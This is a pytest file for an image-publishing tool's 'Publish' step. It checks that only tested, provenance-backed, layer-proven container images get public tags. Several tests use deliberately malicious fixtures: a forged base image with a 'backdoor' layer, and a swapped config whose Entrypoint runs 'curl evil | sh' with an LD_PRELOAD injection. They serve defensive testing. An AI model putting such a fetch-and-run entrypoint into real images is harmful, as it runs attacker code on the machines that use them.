"""The publishing rule on the fakes (`Publish` over an in-memory registry and engine): public tags name only
digests with a pass record of this suite; untested entries are staged; a key tag that names another image is
never taken as tested; a pass of another image is refused, naming both."""

from __future__ import annotations

import copy
import dataclasses
import hashlib
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from imagebuilder.evidence import attestation, passes, provenance
from imagebuilder.evidence.passes import PassRecord, RegistryPasses
from imagebuilder.input import matrix as matrix_mod
from imagebuilder.input.compat import CompatTable
from imagebuilder.ledger import BuildStatus, PublishStatus, VerifyStatus
from imagebuilder.plan import keys
from imagebuilder.plan import plan as plan_mod
from imagebuilder.plan.plan import Node
from imagebuilder.plan.render import Renderer
from imagebuilder.run.context import RunContext
from imagebuilder.steps.publish import Publish
from imagebuilder.steps.supply import SupplyChain

from ..conftest import MatrixWriter
from .fakes import FakeDisplay, FakeEngine, FakeRegistry, context, layer_tar

REPO = "ml/pytorch"
SECRET = "hf_0123456789abcdefghij"


@dataclass
class Machine:
    """A run whose three nodes (base -> business -> task) were built here: each has an image on the engine."""

    run: RunContext
    engine: FakeEngine
    registry: FakeRegistry
    display: FakeDisplay

    def passed(self, node: Node, image: str | None = None) -> None:
        """The leaf passed its suite in this image (default: its own)."""
        record = PassRecord(passes.PASSED, config=image or str(self.run.ledger[node.id].image),
                            spec=self.run.specs.key(node), node=node.id, entry=node.entry.id, date="2026-11-23",
                            suite=passes.suite_hash())
        self.run.ledger.update(node.id, record=record)

    def tags(self) -> dict[str, str]:
        return self.registry.public_tags(REPO)

    @property
    def said(self) -> list[str]:
        return self.display.said


@pytest.fixture
def machine(write_matrix: MatrixWriter, header: str, table: CompatTable, tmp_path: Path) -> Machine:
    path = write_matrix(header + "matrix: {torch: [2.6.0], accelerator: [cpu], python: ['3.11']}\n")
    plan = keys.assign(plan_mod.make(matrix_mod.load(path, table, env={}), Renderer()),
                       {"debian:bookworm": "sha256:" + "f" * 64})
    registry, display = FakeRegistry(), FakeDisplay()
    engine = FakeEngine(registry)
    run = context(plan, engine, tmp_path, display=display, secrets={"$HF_TOKEN": SECRET})
    below, layers = "sha256:" + "f" * 64, [own_layer(engine, "base image")]
    for node in plan.nodes:  # each image holds its parent's layers and one of its own, as a build makes it
        layers = [*layers, own_layer(engine, node.id)]
        parent_image = below
        image = below = engine.add({"config": {"Labels": {"node": node.id,
                                                          "org.opencontainers.image.base.digest": below}},
                                    "layers": layers, "rootfs": {"type": "layers", "diff_ids": layers}})
        run.ledger.update(node.id, build=BuildStatus.BUILT, image=image, parent_image=parent_image,
                          verify=VerifyStatus.PASSED if node.leaf else None)
    return Machine(run, engine, registry, display)


def own_layer(engine: FakeEngine, name: str) -> str:
    """A layer of one file, known to the engine (as pushed, its blob is this tar): its diff_id."""
    tar = layer_tar({f"opt/{name.replace('/', '_')}": name.encode()})
    diff_id = "sha256:" + hashlib.sha256(tar).hexdigest()
    engine.layer_tars[diff_id] = tar
    return diff_id


def publish(machine: Machine, **options: bool) -> bool:
    nodes = list(machine.run.plan.nodes)
    return Publish(**{"supply": SupplyChain(), **options}).entry(machine.run, nodes)


def leaf(machine: Machine) -> Node:
    return next(n for n in machine.run.plan.nodes if n.leaf)


def test_a_passed_entry_is_published_with_a_record_beside_every_digest(machine: Machine) -> None:
    machine.passed(leaf(machine))
    assert publish(machine)
    store = RegistryPasses(machine.registry, machine.run.keys.trust)
    for node in machine.run.plan.nodes:
        record = machine.run.ledger[node.id]
        assert record.publish == PublishStatus.PUSHED and record.digest is not None
        assert all(machine.tags()[ref.rsplit(":", 1)[1]] == record.digest for ref in node.tags)
        found = store.find(REPO, record.digest, machine.run.specs.key(node))
        assert found is not None and found.config == record.image
        assert (found.via is None) == node.leaf  # ancestors pass through the leaf built on them
        assert record.pass_record is not None and record.pass_record.endswith("(written by this run)")


def test_no_pass_stages_key_tags_only(machine: Machine) -> None:
    machine.run.ledger.update(leaf(machine).id, verify=VerifyStatus.SKIPPED)  # --no-smoke
    assert publish(machine)
    assert machine.tags() == {}
    assert all(machine.run.ledger[n.id].publish == PublishStatus.STAGED and machine.run.ledger[n.id].digest
               for n in machine.run.plan.nodes)
    builds = {provenance.tag(str(machine.run.ledger[n.id].digest)) for n in machine.run.plan.nodes}
    tagged = {t for _, t in machine.registry.tagged}
    indexes = {attestation.tag(str(machine.run.ledger[n.id].digest), "")[:-1] for n in machine.run.plan.nodes}
    atts = {attestation.tag(str(machine.run.ledger[n.id].digest), "att") for n in machine.run.plan.nodes}
    # a key tag each; besides, build records (natively and in cosign's `.att`; a bundle is untagged) and the fallback
    # referrers index that lists them, only
    assert tagged - builds - indexes - atts == {f"cache-{n.key[:12]}" for n in machine.run.plan.nodes}


def test_without_push_an_untested_entry_is_not_even_tagged_locally(machine: Machine) -> None:
    machine.run.ledger.update(leaf(machine).id, verify=VerifyStatus.SKIPPED)
    assert publish(machine, push=False)
    assert machine.engine.local_tags == {} and machine.registry.tagged == {}
    assert {machine.run.ledger[n.id].publish for n in machine.run.plan.nodes} == {PublishStatus.STAGED}


def test_an_untested_entry_is_held_where_publish_stages_nothing(machine: Machine) -> None:
    """`imagebuilder publish`: an entry whose leaf has no pass record is held, naming what to run."""
    machine.run.ledger.update(leaf(machine).id, verify=VerifyStatus.SKIPPED)
    assert not publish(machine, stage_untested=False)
    assert machine.registry.tagged == {}
    task = machine.run.ledger[leaf(machine).id]
    assert task.publish == PublishStatus.HELD and "run `imagebuilder verify`" in str(task.error)


def test_allow_untested_publishes_and_says_so_beside_every_digest(machine: Machine) -> None:
    machine.run.ledger.update(leaf(machine).id, verify=VerifyStatus.SKIPPED)
    assert publish(machine, allow_untested=True)
    assert machine.tags()
    store = RegistryPasses(machine.registry, machine.run.keys.trust)
    every = machine.registry.tags(REPO)
    for node in machine.run.plan.nodes:
        record = machine.run.ledger[node.id]
        assert record.untested and record.pass_record is not None and record.pass_record.startswith("UNTESTED")
        assert store.find(REPO, str(record.digest), machine.run.specs.key(node)) is None  # never a pass
        assert [r.record.allowed_by for r in store.all_for(REPO, str(record.digest), every) if r.record] == [
            "--allow-untested"]
    assert any("UNTESTED" in line for line in machine.said)


def test_a_key_tag_naming_another_image_is_replaced_by_the_tested_one(machine: Machine) -> None:
    task = leaf(machine)
    seeded = machine.registry.image_of(REPO, f"cache-{task.key[:12]}", "sha256:" + "e" * 64)
    machine.passed(task)
    assert publish(machine)
    digest = machine.run.ledger[task.id].digest
    assert digest is not None and digest != seeded
    store = RegistryPasses(machine.registry, machine.run.keys.trust)
    assert store.config_digest(REPO, digest) == machine.run.ledger[task.id].image
    assert seeded not in machine.tags().values()
    assert any(f"names {seeded}" in line and str(machine.run.ledger[task.id].image) in line for line in machine.said)


def test_a_pass_of_another_image_is_refused_naming_both(machine: Machine) -> None:
    task = leaf(machine)
    machine.passed(task, image="sha256:" + "d" * 64)  # the suite ran in another image than the one published
    assert not publish(machine)
    record = machine.run.ledger[task.id]
    assert record.publish == PublishStatus.FAILED
    assert "has no pass record" in str(record.error) and "sha256:" + "d" * 64 in str(record.error)
    assert str(record.image) in str(record.error)
    assert machine.tags() == {}  # all or nothing: no node of the entry is tagged


def test_a_failed_or_gpu_unverified_leaf_holds_the_entry(machine: Machine) -> None:
    task = leaf(machine).id
    machine.run.ledger.update(task, verify=VerifyStatus.FAILED)  # e.g. a skip on a GPU run
    assert not publish(machine)
    assert {machine.run.ledger[n.id].publish for n in machine.run.plan.nodes} == {PublishStatus.HELD}
    assert machine.registry.tagged == {}
    machine.run.ledger.update(task, verify=VerifyStatus.PASSED, gpu_verified=False, publish=None)
    machine.passed(leaf(machine))
    assert not publish(machine)
    assert machine.registry.tagged == {}
    assert publish(machine, allow_untested_gpu=True) and machine.tags()


def test_a_pass_on_gpus_replaces_a_pass_without_one(machine: Machine) -> None:
    """CPU fleets build and test what they can; a GPU fleet's pass of the same image then takes the record's
    place (same tag), so promote can tell the image was verified on GPUs."""
    task = leaf(machine)
    machine.passed(task)
    cpu_only = {"verified": False, "kind": "gpu", "models": []}
    machine.run.ledger.change(task.id, lambda r: replace(r, record=replace(r.record, gpu=cpu_only),
                                                         gpu_verified=False))
    assert publish(machine, allow_untested_gpu=True)
    digest = str(machine.run.ledger[task.id].digest)
    store = RegistryPasses(machine.registry, machine.run.keys.trust)
    first = store.find(REPO, digest, machine.run.specs.key(task))
    assert first is not None and not first.gpu_verified
    on_gpus = {"verified": True, "kind": "gpu", "models": ["NVIDIA H200"]}
    machine.run.ledger.change(task.id, lambda r: replace(r, record=replace(r.record, gpu=on_gpus), gpu_verified=True))
    assert publish(machine)
    again = store.find(REPO, digest, machine.run.specs.key(task))
    assert again is not None and again.gpu_verified and again.gpu["models"] == ["NVIDIA H200"]


def test_a_cached_image_with_a_secret_holds_its_entry_and_nothing_is_pushed(machine: Machine) -> None:
    machine.passed(leaf(machine))
    business = machine.run.plan.nodes[1]
    image = str(machine.run.ledger[business.id].image)
    machine.engine.files[image] = [("/opt/team/.env", f"HF_TOKEN={SECRET}\n".encode())]
    machine.run.ledger.update(business.id, build=BuildStatus.CACHED)  # built by an earlier run, before the secret
    assert not publish(machine)
    assert machine.tags() == {} and machine.registry.tagged == {}  # not even a key tag
    assert all(r.publish == PublishStatus.HELD for r in machine.run.ledger.records())
    assert "$HF_TOKEN appears in the file /opt/team/.env" in (machine.run.ledger[business.id].error or "")
    # the gate looks at cached images only: built ones were scanned as they were built
    machine.run.ledger.change(business.id, lambda r: dataclasses.replace(r, build=BuildStatus.BUILT, error=None,
                                                                         publish=None))
    assert publish(machine) and machine.tags()


def test_an_ancestor_is_published_only_when_the_leaf_was_built_on_it(machine: Machine) -> None:
    """The base under the key this run holds is another image than the one the tested leaf was built on (a
    rebuild of the same key, with other layers): refused, naming both images; nothing of the entry is tagged."""
    machine.passed(leaf(machine))
    base = machine.run.plan.nodes[0]
    layers = [own_layer(machine.engine, "base image"), own_layer(machine.engine, "rebuilt")]
    rebuilt = machine.engine.add({"config": {"Labels": {"node": base.id, "rebuilt": "yes"}}, "layers": layers,
                                  "rootfs": {"type": "layers", "diff_ids": layers}})
    machine.run.ledger.update(base.id, image=rebuilt)
    assert not publish(machine)
    record = machine.run.ledger[base.id]
    assert record.publish == PublishStatus.FAILED and machine.tags() == {}
    tested = str(machine.run.ledger[leaf(machine).id].image)
    assert tested[:19] in str(record.error) and rebuilt in str(record.error)


def test_built_on_is_proven_by_layers_never_by_labels(machine: Machine) -> None:
    """A forged chain (issue 39, N1): the base under its key tag carries an extra layer and the leaf's label names
    it as its base; the leaf's layers do not start with the base's, so the label counts for nothing and the base
    is refused. An honest chain whose labels name nothing is published: the layers prove it."""
    base, business = machine.run.plan.nodes[0], machine.run.plan.nodes[1]
    honest = machine.engine.images[str(machine.run.ledger[base.id].image)]
    evil_layers = [*honest["layers"], own_layer(machine.engine, "backdoor")]
    evil = machine.engine.add({"config": {"Labels": {"node": base.id, "backdoor": "yes"}}, "layers": evil_layers,
                               "rootfs": {"type": "layers", "diff_ids": evil_layers}})
    below = evil
    for node in (business, leaf(machine)):  # every image above says it was built on the image below it (and so do
        doc = copy.deepcopy(machine.engine.images[str(machine.run.ledger[node.id].image)])  # the build records)
        doc["config"]["Labels"]["org.opencontainers.image.base.digest"] = below
        parent, below = below, machine.engine.add(doc)
        machine.run.ledger.update(node.id, image=below, parent_image=parent)
    machine.passed(leaf(machine))
    machine.run.ledger.update(base.id, image=evil)
    assert not publish(machine) and machine.tags() == {}
    assert evil in str(machine.run.ledger[base.id].error)
    assert "do not start with" in str(machine.run.ledger[base.id].error)


def test_an_honest_chain_without_labels_is_published(machine: Machine) -> None:
    below = str(machine.run.ledger[machine.run.plan.nodes[0].id].parent_image)
    for node in machine.run.plan.nodes:
        doc = copy.deepcopy(machine.engine.images[str(machine.run.ledger[node.id].image)])
        doc["config"]["Labels"].pop("org.opencontainers.image.base.digest")
        parent, below = below, machine.engine.add(doc)
        machine.run.ledger.update(node.id, image=below, parent_image=parent)
    machine.passed(leaf(machine))
    assert publish(machine) and machine.tags()


def test_an_entry_whose_second_tag_fails_to_point_is_left_as_it_was(machine: Machine) -> None:
    """All or nothing: the first tags were pointed, then the registry failed one; each tag pointed is pointed back
    (one that was new is removed, where the registry can delete a tag), and nothing of the entry is published."""
    machine.passed(leaf(machine))
    base, business = machine.run.plan.nodes[0], machine.run.plan.nodes[1]
    machine.registry.refuse.add(business.tags[0].rsplit(":", 1)[1])
    assert not publish(machine)
    assert machine.tags() == {}  # the base's tags, pointed first, were removed again
    record = machine.run.ledger[business.id]
    assert record.publish == PublishStatus.FAILED and "every tag of the entry is as it was" in str(record.error)
    assert {machine.run.ledger[n.id].publish for n in (base, leaf(machine))} == {PublishStatus.HELD}
    # A registry that deletes no manifest at all: the new tags it was given are named, not hidden.
    machine.registry.can_untag = False
    machine.run.ledger.update(business.id, publish=None, error=None)
    assert not publish(machine)
    assert "this registry deletes no manifest" in str(machine.run.ledger[business.id].error)


def test_an_immutable_tag_written_since_the_check_is_not_overwritten(machine: Machine) -> None:
    machine.passed(leaf(machine))
    run, task = machine.run, leaf(machine)
    publish_step = Publish(supply=SupplyChain())
    ref = task.tags[0]
    other = machine.registry.image_of(REPO, "elsewhere", "sha256:" + "8" * 64)
    machine.registry.tagged[(REPO, ref.rsplit(":", 1)[1])] = other  # another job wrote it in between
    with pytest.raises(Exception, match=r"names .* now .* not overwritten"):
        publish_step.point_tag(run, task, ref, "sha256:" + "7" * 64, [])
    assert machine.registry.tagged[(REPO, ref.rsplit(":", 1)[1])] == other


def test_every_published_digest_gets_a_vsa_that_the_check_command_reads(machine: Machine) -> None:
    from imagebuilder.evidence import admission, predicates, sigstore

    machine.passed(leaf(machine))
    assert publish(machine)
    trust = machine.run.keys.trust
    for node in machine.run.plan.nodes:
        digest = machine.run.ledger[node.id].digest
        assert digest is not None
        vsas, rejected = sigstore.read(machine.registry, REPO, digest, predicates.VSA, trust)
        assert rejected == [] and sorted(v.where.split(" ")[0] for v in vsas) == [
            "bundle", sigstore.att_tag(digest)]  # one in each layout
        assert all(v.predicate["verificationResult"] == "PASSED" for v in vsas)
        verdict = admission.check(machine.registry, REPO, digest, trust, policy=("pass", "vsa", "sbom"))
        assert verdict.admitted, verdict.lines()
    assert machine.run.layouts.found()["registries"][machine.registry.host]["oci_subject"] is False


def test_nothing_is_published_without_a_build_record_by_a_trusted_build_key(machine: Machine) -> None:
    """A run whose keys are named and that holds no build key writes no build record: publish refuses every digest,
    naming the rule, and points no tag (provenance is a precondition, not a nicety)."""
    machine.passed(leaf(machine))
    keys_ = dataclasses.replace(machine.run.keys, builder=None)
    run = dataclasses.replace(machine.run, keys=keys_)
    assert not Publish(supply=SupplyChain()).entry(run, list(run.plan.nodes)) and machine.tags() == {}
    assert "no trusted build record names it" in str(run.ledger[leaf(machine).id].error)


def test_an_ancestor_under_another_config_gets_no_pass_through_the_leaf(machine: Machine) -> None:
    """N5-01: the business key tag re-pushed with the very layers and another config (Entrypoint, Env), no build
    record: `via` refuses it, whatever the leaf's layers say."""
    from imagebuilder.errors import Refused
    from imagebuilder.run.ancestors import via

    machine.passed(leaf(machine))
    assert publish(machine)
    business, task = machine.run.plan.nodes[1], leaf(machine)
    honest = machine.engine.images[str(machine.run.ledger[business.id].image)]
    swapped = copy.deepcopy(honest)
    swapped["config"].update(Entrypoint=["/bin/sh", "-c", "curl evil | sh"], Env=["LD_PRELOAD=/tmp/x.so"])
    evil = machine.engine.add(swapped)
    ref = f"127.0.0.1:5000/{REPO}:{keys.cache_tag(business.key)}"
    machine.engine.tag(evil, ref)
    evil_digest = machine.engine.push(ref)
    record = machine.run.ledger[task.id].record
    assert record is not None
    with pytest.raises(Refused, match=r"no build record is beside it: nothing vouches that .* was built on it"):
        via(machine.run, business, task, record, str(machine.run.ledger[task.id].digest), evil_digest, evil)


def test_the_vsa_of_a_published_digest_is_the_judges_ruling(machine: Machine) -> None:
    """N5-10: the leaf failed on H100 at 09:00 and passed there at 10:00: publish publishes it (the newest verdict
    per model counts), and the VSA beside it says PASSED, not FAILED, as the judge ruled."""
    from imagebuilder.evidence import predicates, sigstore

    machine.passed(leaf(machine))
    assert publish(machine)
    task = leaf(machine)
    digest = str(machine.run.ledger[task.id].digest)
    store = machine.run.passes("127.0.0.1:5000")
    passed = store.find(REPO, digest, machine.run.specs.key(task))
    assert passed is not None
    gpu = {"kind": "gpu", "verified": True, "models": ["NVIDIA H100 80GB HBM3"], "count": 1}
    early = replace(passed, gpu=gpu, verdict=passes.FAILED, date="2026-11-27T09:00:00+00:00")
    store.put(REPO, early, per_model=True)
    store.put(REPO, replace(early, verdict=passes.PASSED, date="2026-11-27T10:00:00+00:00"), per_model=True)
    assert publish(machine)
    vsas, _ = sigstore.read(machine.registry, REPO, digest, predicates.VSA, machine.run.keys.trust)
    assert vsas and all(v.predicate["verificationResult"] == "PASSED" for v in vsas)
